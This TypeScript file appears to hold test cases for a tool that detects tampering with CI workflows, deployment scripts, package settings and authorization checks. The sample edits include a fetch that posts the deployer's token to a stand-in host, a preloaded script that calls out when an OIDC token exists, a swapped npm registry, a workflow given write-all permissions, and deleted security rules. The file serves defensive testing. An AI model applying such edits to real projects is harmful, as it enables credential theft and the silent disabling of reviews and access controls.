import { type Case, harmful, replace } from "./case.ts";

/** Files that decide, and show in no resource. */
export const files: readonly Case[] = [
  harmful({
    title: "the review of a pull request runs with a token that writes",
    class: "files that decide: workflow",
    edits: replace(
      ".github/workflows/pull-request.yml",
      "on: pull_request\npermissions: {}",
      "on: pull_request_target\npermissions: write-all",
    ),
    findings: [{ id: "file/pipeline", about: "pull-request.yml" }],
    through: "engine",
    together: "what opens, weakens and judges",
  }),
  harmful({
    title: "a workflow that nobody has seen",
    class: "files that decide: workflow",
    edits: {
      file: ".github/workflows/mirror.yaml",
      text: "name: mirror\non: pull_request_target\npermissions: write-all\njobs:\n  mirror:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo hello\n",
    },
    findings: [{ id: "file/pipeline", about: "mirror.yaml" }],
  }),
  harmful({
    title: "the upload hands the deployer's token out",
    class: "files that decide: upload script",
    edits: replace(
      "infra/publish.ts",
      "  process.stdout.write(`${deployed}\\n`);",
      '  await fetch("https://fabrikam.example", { method: "POST", body: await token(`${cloud.resourceManager}/.default`) });\n  process.stdout.write(`${deployed}\\n`);',
    ),
    findings: [{ id: "file/pipeline", about: "infra/publish.ts" }],
  }),
  harmful({
    title: "the proof of an upload proves nothing",
    class: "files that decide: upload script",
    edits: replace(
      "packages/core/azure/one-deploy/upload.ts",
      'throw new PublishFailed("refused", messages.uploadRefused.format(scmHostName, message, wasAccepted));',
      "return undefined;",
    ),
    findings: [{ id: "file/pipeline", about: "packages/core/azure/one-deploy/upload.ts" }],
  }),
  harmful({
    title: "something else is loaded before the program",
    class: "files that decide: Pulumi.yaml",
    edits: [
      replace("Pulumi.yaml", "packagemanager: npm", "packagemanager: npm\n    nodeargs: --require=../docs/setup.cjs"),
      { file: "docs/setup.cjs", text: 'if (process.env.ARM_USE_OIDC) require("node:child_process");\n' },
    ],
    findings: [{ id: "file/pipeline", about: "Pulumi.yaml" }],
  }),
  harmful({
    title: "a script that runs after each installation",
    class: "files that decide: package.json",
    edits: [
      replace(
        "package.json",
        '    "start": "exec ./pf start",',
        '    "postinstall": "node docs/postinstall.mjs",\n    "start": "exec ./pf start",',
      ),
      { file: "docs/postinstall.mjs", text: "export {};\n" },
    ],
    findings: [{ id: "file/pipeline", about: "package.json" }],
  }),
  harmful({
    title: "another archive for a package of the deployer's",
    class: "files that decide: package-lock.json",
    edits: replace(
      "package-lock.json",
      '"integrity": "sha512-6FlzubTLZG3J2a/NVCAleEhjzq5oxgHyaCU9yYXvcLsvoVaHJq/s5xXI6/XXP6tz7R9xAOtHnSO/tXtF3WRTlA=="',
      '"resolved": "https://registry.fabrikam.example/ms-2.1.3.tgz"',
    ),
    findings: [{ id: "file/pipeline", about: "package-lock.json" }],
  }),
  harmful({
    title: "packages come from another registry",
    class: "files that decide: .npmrc",
    edits: replace(".npmrc", "fund=false", "registry=https://registry.fabrikam.example/\nfund=false"),
    findings: [{ id: "file/pipeline", about: ".npmrc" }],
  }),
  harmful({
    title: "nobody has to look at anything",
    class: "CODEOWNERS change",
    edits: { file: ".github/CODEOWNERS", text: "* @contoso/everybody\n" },
    findings: [{ id: "file/pipeline", about: "CODEOWNERS" }],
  }),
  harmful({
    title: "tests that fail are fine",
    class: "files that decide: workflow",
    edits: replace(".ci/run", 'exit "$failed"', "exit 0"),
    findings: [{ id: "file/pipeline", about: ".ci/run" }],
  }),
  harmful({
    title: "the organization's policies leave the gate out",
    class: "files that decide: policy pack",
    edits: replace(
      "packages/policy-pack/policies.ts",
      "return rules().map(rulePolicy);",
      'return rules().filter(({ id }) => id !== "explicit-applications").map(rulePolicy);',
    ),
    findings: [{ id: "file/judges", about: "packages/policy-pack/policies.ts" }],
  }),
  harmful({
    title: "a path is opened, and the rule that would refuse it goes with it",
    class: "the judge itself: deleted rule",
    edits: [
      replace("infra/rules/rules.ts", "    explicitApplications,\n", ""),
      replace(
        "infra/hosting/authentication.ts",
        "              defaultAuthorizationPolicy: { allowedApplications: [...args.allowedApplications] },\n",
        "",
      ),
    ],
    verdict: ["weakens", "opens"],
    findings: [
      { id: "gate/every-application", about: "" },
      { id: "file/judges", about: "infra/rules/rules.ts" },
    ],
    through: "engine",
    together: "what opens, weakens and judges",
  }),
  harmful({
    title: "the review always ends well, and compares no gates",
    class: "the judge itself: deleted comparison",
    edits: [
      { file: "packages/pf/commands/review/compare/compare-app-service-authentication.ts", deleted: true },
      replace("packages/pf/cli/exit-codes.ts", "failed: 1, usage", "failed: 0, usage"),
      replace("infra/hosting/authentication.ts", "requireHttps: true,", "requireHttps: false,"),
    ],
    verdict: "weakens",
    findings: [
      { id: "gate/plain-http", about: "" },
      { id: "file/judges", about: "packages/pf/cli/exit-codes.ts" },
      { id: "file/judges", about: "packages/pf/commands/review/compare/compare-app-service-authentication.ts" },
    ],
    through: "engine",
    together: "what opens, weakens and judges",
  }),
  harmful({
    title: "people need no role, and the check that would tell is gone",
    class: "the judge itself: deleted check",
    edits: [
      { file: "packages/pf/checks/endpoints/protected-endpoints.ts", deleted: true },
      replace(
        "packages/guard/guard.ts",
        "  requireOneOf(caller, allow);",
        '  if (caller.kind === "application") requireOneOf(caller, allow);',
      ),
    ],
    verdict: ["weakens", "opens"],
    findings: [
      { id: "endpoint/proof-lost", about: "who-calls" },
      { id: "file/guard", about: "guard.ts" },
      { id: "file/judges", about: "protected-endpoints.ts" },
    ],
    through: "engine",
  }),
  harmful({
    title: "the twin lets everybody in",
    class: "the judge itself: twin made lenient",
    edits: replace(
      "packages/twin/easy-auth/authorization-policy.ts",
      "if (allowed === undefined) return true;",
      "return true;",
    ),
    findings: [{ id: "file/judges", about: "packages/twin/easy-auth/authorization-policy.ts" }],
  }),
  harmful({
    title: "an app setting that overrides authentication is no longer known as one",
    class: "the judge itself: deleted rule",
    edits: [
      replace("infra/rules/rules.ts", "    noAuthenticationOverride,\n", ""),
      { file: "test/infra/rules/no-authentication-override.test.ts", deleted: true },
    ],
    findings: [{ id: "file/judges", about: "infra/rules/rules.ts" }],
  }),
  harmful({
    title: "a link in place of the guard",
    class: "symlink in place of a file",
    edits: { file: "packages/guard/require-gate.ts", linkTo: "../src/who-calls.ts" },
    findings: [{ id: "file/guard", about: "require-gate.ts" }],
  }),
  harmful({
    title: "what runs before the program reads the login",
    class: "files that decide: Pulumi.yaml",
    edits: [
      replace("Pulumi.yaml", "packagemanager: npm", "packagemanager: npm\n    nodeargs: --require=./early.cjs"),
      {
        file: "infra/early.cjs",
        text: 'if (process.env.ARM_OIDC_TOKEN) require("node:https").get("https://fabrikam.example");\n',
      },
    ],
    findings: [{ id: ["file/declares", "file/pipeline"], about: "early.cjs" }],
  }),
];
